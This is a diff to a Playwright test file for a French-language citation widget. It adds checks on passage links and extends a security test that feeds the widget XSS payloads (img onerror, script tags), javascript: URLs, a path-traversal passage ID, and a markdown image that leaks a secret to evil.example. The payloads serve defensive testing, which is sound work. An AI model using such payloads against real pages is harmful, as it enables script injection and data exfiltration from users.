@@ -72,6 +72,11 @@ def test_the_quote_is_marked_in_its_passage(widget: Widget) -> None:
     opened = card.get_by_role("link", name="Ouvrir le document")
     assert opened.get_attribute("href") == "https://www.exemple.fr/convention.pdf#page=12"
     assert opened.get_attribute("rel") == "noopener noreferrer"
+    inside = card.get_by_role("link", name="Voir le passage dans le document")
+    assert inside.get_attribute("href") == (
+        f"{widget.double.url}/passages/convention%231?debut={citation()['start']}"
+        f"&fin={citation()['end']}"
+    )
     expect(opened).to_have_accessible_name(re.compile(r"\(nouvelle fenêtre\)$"))
     button.click()
     expect(button).to_have_attribute("aria-expanded", "false")
@@ -137,7 +142,10 @@ def test_a_summary_names_its_sources(widget: Widget) -> None:
     assert "Résumé établi par nos soins d’après : ANCT, La Gazette · novembre 2026" in told
     assert "– ANCT : lancement du programme (nouvelle fenêtre), 1er octobre 2020" in told
     assert "– La Gazette : Guichen retenue (presse), décembre 2020" in told
-    assert card.get_by_role("link").count() == 1
+    assert [link.get_attribute("href") for link in card.get_by_role("link").all()] == [
+        "https://agence.exemple.fr/pvd",
+        f"{widget.double.url}/passages/convention%232?debut=0&fin=45",
+    ]
 
 
 @pytest.mark.parametrize(
@@ -499,8 +507,9 @@ HOSTILE = '<img src=x onerror="window.hurt=1"><script>window.hurt=1</script>'
 def test_a_hostile_answer_is_only_text(widget: Widget) -> None:
     text = f"{HOSTILE} ![i](https://evil.example/p.gif?d=secret) [clic](javascript:alert(1))"
     bad = citation(
-        title=HOSTILE, publisher=HOSTILE, passage=HOSTILE, url="javascript:window.hurt=1"
-    )
+        title=HOSTILE, publisher=HOSTILE, passage=HOSTILE, url="javascript:window.hurt=1",
+        passage_id=f"../../{HOSTILE}",
+    )  # fmt: skip
     source = {
         "publisher": HOSTILE,
         "title": HOSTILE,
@@ -529,7 +538,11 @@ def test_a_hostile_answer_is_only_text(widget: Widget) -> None:
     for button in widget.page.get_by_role("button", name="Voir le passage").all():
         button.click()
     panel = widget.page.locator("assistant-pvd .panel")
-    expect(panel.locator("img, script, a")).to_have_count(0)
+    expect(panel.locator("img, script")).to_have_count(0)
+    links = panel.locator("a").all()
+    assert {(link.get_attribute("href") or "").split("%")[0] for link in links} == {
+        f"{widget.double.url}/passages/..", f"{widget.double.url}/passages/convention"
+    }  # fmt: skip
     assert widget.text(".text").startswith('<img src=x onerror="window.hurt=1">')
     assert widget.page.evaluate("window.hurt") is None
     assert {url.removeprefix(widget.double.url) for url in requests} <= {
